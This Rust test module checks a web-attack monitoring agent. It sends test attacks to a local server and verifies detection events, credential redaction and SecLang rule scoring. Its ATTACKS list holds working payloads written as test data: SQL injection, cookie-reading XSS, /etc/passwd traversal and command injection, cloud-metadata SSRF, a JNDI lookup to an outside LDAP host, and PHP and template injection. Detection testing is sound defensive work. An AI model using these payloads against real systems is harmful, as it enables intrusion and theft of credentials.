//! What an attack request becomes: an event with its matches, without credentials, and — while
//! nothing but monitoring is on — an answer like any other's.

use std::collections::HashMap;
use std::fs;
use std::path::Path;

use anyhow::{Result, anyhow, ensure};

use crate::agent::{Installation, Report};
use crate::client::{Body, Request};
use crate::ledger::Ledger;
use crate::servers::{Place, python};
use crate::site::Site;
use crate::workload::{exchange, gets, mark};

/// An attack, the request, and the type of a rule that has to match.
type Attack = (&'static str, fn() -> Request, &'static str);

fn get(query: &str) -> Request {
    Request::new("GET", mark("attack")).query(query)
}

fn post(kind: &str, body: &str) -> Request {
    Request::new("POST", mark("attack")).header("Content-Type", kind).body(Body::Length(body.into()))
}

const FORM: &str = "application/x-www-form-urlencoded";

const ATTACKS: [Attack; 13] = [
    (
        "SQL injection in a query",
        || get("id=1%27%20UNION%20SELECT%20name,%20email%20FROM%20users--%20"),
        "sql_injection",
    ),
    ("SQL injection in a form", || post(FORM, "id=1%27+OR+%271%27%3D%271%27--+"), "sql_injection"),
    (
        "SQL injection in JSON",
        || post("application/json", r#"{"id":["1' UNION SELECT a, b FROM c-- "]}"#),
        "sql_injection",
    ),
    (
        "SQL injection in a chunked form",
        || {
            Request::new("POST", mark("attack"))
                .header("Content-Type", FORM)
                .body(Body::Chunked(b"id=1%27+UNION+SELECT+a,b+FROM+c--+".to_vec(), 5))
        },
        "sql_injection",
    ),
    ("script in a query", || get("q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"), "xss"),
    ("path traversal", || get("file=../../../../../../etc/passwd"), "lfi"),
    ("command injection", || get("host=127.0.0.1%3Bcat%20/etc/passwd"), "command_injection"),
    ("SSRF", || get("url=http://169.254.169.254/latest/meta-data/iam/"), "ssrf"),
    (
        "JNDI in a header",
        || Request::new("GET", mark("attack")).header("X-Api-Version", "${jndi:ldap://198.51.100.9/a}"),
        "jndi",
    ),
    ("PHP code", || get("x=%3C?php%20system(%27id%27);%20?%3E"), "php_code_injection"),
    ("a template", || get("name=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D"), "ssti"),
    ("NoSQL injection", || get("user%5B$ne%5D=x&role%5B$gt%5D="), "nosql_injection"),
    (
        "a scanner",
        || {
            Request::new("GET", mark("attack"))
                .header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
        },
        "security_scanner",
    ),
];

/// Attacks are events with the right rule, neighbours on the same connection are not.
pub fn attacks(site: &Site) -> Result<Vec<String>> {
    let server = python::start_http_server(&Place::host(site)?)?;
    let installation = Installation::new(site, "picket")?;
    let agent = installation.start()?;
    let (mut attacks, mut harmless) = (Ledger::default(), Ledger::default());
    let mut sent = HashMap::new();
    for v6 in [false, true] {
        let mut connection = server.connect(v6)?;
        for (name, request, kind) in ATTACKS {
            let request = request();
            sent.insert(request.path.clone(), (name, kind));
            exchange(&server, &mut connection, &request, 200, &mut attacks)?;
            gets(&server, &mut connection, "harmless", 1, &mut harmless)?;
        }
    }
    let mut all = attacks.clone();
    all.append(harmless.clone());
    agent.wait_for(all.len());
    let reports = agent.stop()?;
    let mut wrong = Vec::new();
    for report in &reports {
        match sent.get(report.path()) {
            Some((name, kind)) => {
                if let Err(error) = judge(report, kind) {
                    wrong.push(format!("{name}: {error}"));
                }
            }
            None if report.is_event() => wrong.push(format!("a harmless request is an event: {report}")),
            None => {}
        }
    }
    ensure!(
        wrong.is_empty(),
        "{} of {} reports are wrong, the first of them:\n{}",
        wrong.len(),
        reports.len(),
        wrong[..wrong.len().min(ATTACKS.len())].join("\n")
    );
    // The attacks' user agents and queries are compared here too.
    let (attack_reports, rest): (Vec<_>, Vec<_>) =
        reports.into_iter().partition(|r| sent.contains_key(r.path()));
    attacks.check(&attack_reports)?;
    harmless.check(&rest)?;
    Ok(vec![format!("{} attacks and {} harmless requests between them", attacks.len(), harmless.len())])
}

/// Whether an attack's report is what docs/events.md says.
fn judge(report: &Report, kind: &str) -> Result<()> {
    ensure!(report.is_event(), "kind is {}, not \"event\": {report}", report.at("/kind"));
    ensure!(!report.matches().is_empty(), "no matches: {report}");
    for found in report.matches() {
        for field in
            ["/rule", "/name", "/tags/type", "/tags/category", "/tags/confidence", "/location", "/value"]
        {
            ensure!(found.pointer(field).is_some(), "a match lacks {field}: {found}");
        }
    }
    let types: Vec<&str> = report.matches().iter().filter_map(|m| m["tags"]["type"].as_str()).collect();
    let right = types.contains(&kind);
    ensure!(right, "the types {types:?} lack {kind:?}");
    ensure!(report.at("/blocked") == false, "blocked in monitoring: {report}");
    Ok(())
}

/// Credentials: where a request carries them, and the value that must not be seen again.
const SECRETS: [(&str, &str); 9] = [
    ("Authorization: Bearer", "Secret1Bearer"),
    ("Authorization: Basic", "U2VjcmV0OkJhc2ljMg=="),
    ("Cookie", "Secret3Cookie"),
    ("query password", "Secret4Password"),
    ("query token", "Secret5Token"),
    ("form password", "Secret6Form"),
    ("JSON secret", "Secret7Json"),
    ("JSON api_key", "Secret8Key"),
    ("attack inside of a password", "Secret9Attack"),
];

/// No credential reaches stdout, stderr or the state directory.
pub fn redacted(site: &Site) -> Result<Vec<String>> {
    let server = python::start_http_server(&Place::host(site)?)?;
    let installation = Installation::new(site, "picket")?;
    let agent = installation.start()?;
    let attack = "q=%3Cscript%3Ealert(1)%3C/script%3E";
    let inject = "%27%20UNION%20SELECT%20a,b%20FROM%20c--%20";
    let requests = [
        get(attack).header("Authorization", "Bearer Secret1Bearer"),
        get(attack).header("Authorization", "Basic U2VjcmV0OkJhc2ljMg=="),
        get(attack).header("Cookie", "session=Secret3Cookie; theme=dark"),
        get(&format!("{attack}&password=Secret4Password")),
        get(&format!("token=Secret5Token&{attack}")),
        post(FORM, &format!("user=a&password=Secret6Form&{attack}")),
        post("application/json", r#"{"q":"<script>alert(1)</script>","inner":{"secret":"Secret7Json"}}"#),
        post("application/json", r#"{"q":"<script>alert(1)</script>","list":[{"api_key":"Secret8Key"}]}"#),
        get(&format!("password=Secret9Attack{inject}")),
        // The attack stands inside of the credential itself.
        get("page=1").header("Authorization", "Bearer Secret1Bearer' UNION SELECT a,b FROM c-- "),
        get("page=1").header("Cookie", "session=Secret3Cookie' UNION SELECT a,b FROM c-- "),
        post(FORM, &format!("password=Secret6Form{inject}")),
    ];
    let mut connection = server.connect(false)?;
    for request in &requests {
        exchange(&server, &mut connection, request, 200, &mut Ledger::default())?;
    }
    agent.wait_for(requests.len());
    let errors = agent.errors().clone();
    let reports = agent.stop()?;
    ensure!(
        reports.len() == requests.len(),
        "{} of {} requests were reported",
        reports.len(),
        requests.len()
    );
    let events = reports.iter().filter(|r| r.is_event()).count();
    ensure!(events >= 8, "{events} of {} attacks are events: the scenario shows too little", requests.len());
    let mut written: Vec<(String, String)> =
        reports.iter().map(|r| ("stdout".to_owned(), r.to_string())).collect();
    written.extend(errors.from(0).into_iter().map(|line| ("stderr".to_owned(), line)));
    files(installation.state(), &mut written)?;
    for (place, text) in &written {
        if let Some((what, secret)) = SECRETS.iter().find(|(_, secret)| text.contains(secret)) {
            return Err(anyhow!(
                "{what}: {secret} is in {place}: {}",
                text.chars().take(1000).collect::<String>()
            ));
        }
    }
    Ok(vec![format!(
        "{} requests with credentials, {} pieces of output without",
        requests.len(),
        written.len()
    )])
}

fn files(dir: &Path, out: &mut Vec<(String, String)>) -> Result<()> {
    for entry in fs::read_dir(dir)?.flatten() {
        let kind = entry.file_type()?;
        if kind.is_dir() {
            files(&entry.path(), out)?;
        } else if kind.is_file() {
            let text = String::from_utf8_lossy(&fs::read(entry.path())?).into_owned();
            out.push((entry.path().display().to_string(), text));
        }
    }
    Ok(())
}

/// Rules in SecLang: scores, chains, a rule of the response, exclusions; with what would have been blocked.
pub fn seclang(site: &Site) -> Result<Vec<String>> {
    let rules = site.dir().join("scores.conf");
    fs::write(
        &rules,
        r#"SecAction "id:1,phase:1,nolog,pass,setvar:tx.anomaly_score=0"
SecRule REQUEST_URI "@beginsWith /t/safe" "id:2,phase:1,nolog,pass,ctl:ruleRemoveById=10"
SecRule ARGS "@contains evil" "id:10,phase:2,pass,log,msg:'Evil',tag:'attack-sqli',severity:CRITICAL,\
    t:none,t:urlDecodeUni,t:lowercase,setvar:tx.anomaly_score=+5"
SecRule ARGS_POST:a "@streq 1" "id:11,phase:2,pass,log,msg:'A pair',severity:NOTICE,chain"
    SecRule ARGS_POST:b "@streq 2" "setvar:tx.anomaly_score=+2"
SecRule TX:ANOMALY_SCORE "@ge 5" "id:90,phase:2,deny,status:403,log,msg:'Too much'"
SecRule RESPONSE_STATUS "@streq 404" "id:20,phase:3,pass,log,msg:'Nothing there',chain"
    SecRule TX:ANOMALY_SCORE "@eq 2""#,
    )?;
    let server = python::start_http_server(&Place::host(site)?)?;
    let installation = Installation::new(site, "picket")?;
    installation.configure(&format!("[rules]\nbuiltin = false\nfiles = [\"{}\"]\n", rules.display()))?;
    let agent = installation.start()?;
    let mut ledger = Ledger::default();
    let mut connection = server.connect(false)?;
    let mut ask = |request: Request, status| -> Result<String> {
        exchange(&server, &mut connection, &request, status, &mut ledger)?;
        Ok(request.path)
    };
    let evil = ask(Request::new("GET", mark("seclang")).query("x=%2565VIL"), 200)?;
    let safe = ask(Request::new("GET", mark("safe")).query("x=evil"), 200)?;
    let pair = |path: String| {
        Request::new("POST", path).header("Content-Type", FORM).body(Body::Length(b"a=1&b=2".to_vec()))
    };
    let noted = ask(pair(mark("seclang")), 200)?;
    let missing = ask(pair(mark("seclang").replacen("/t/", "/missing/", 1)), 404)?;
    let reports = agent.check(&ledger)?;
    /// What, path, rules, `would_block`, score.
    type Expected<'e> = (&'e str, &'e str, &'e [&'e str], bool, Option<u64>);
    let expected: [Expected<'_>; 4] = [
        ("a score over the threshold", &evil, &["10"], true, Some(5)),
        ("a rule that was switched off", &safe, &[], false, None),
        ("a score below it", &noted, &["11"], false, Some(2)),
        ("a rule of the response", &missing, &["11", "20"], false, Some(2)),
    ];
    for (what, path, rules, would_block, score) in expected {
        let report = reports.iter().find(|report| report.path() == path);
        let report = report.ok_or_else(|| anyhow!("{what}: {path} was not reported"))?;
        let ids: Vec<&str> = report.matches().iter().filter_map(|found| found["rule"].as_str()).collect();
        ensure!(ids == rules, "{what}: rules {ids:?}, not {rules:?}");
        ensure!(report.at("/would_block").as_bool().unwrap_or(false) == would_block, "{what}: would_block");
        ensure!(report.at("/score").as_u64() == score, "{what}: score {}", report.at("/score"));
    }
    Ok(vec!["scores, a chain, a rule switched off and a rule of the response".to_owned()])
}
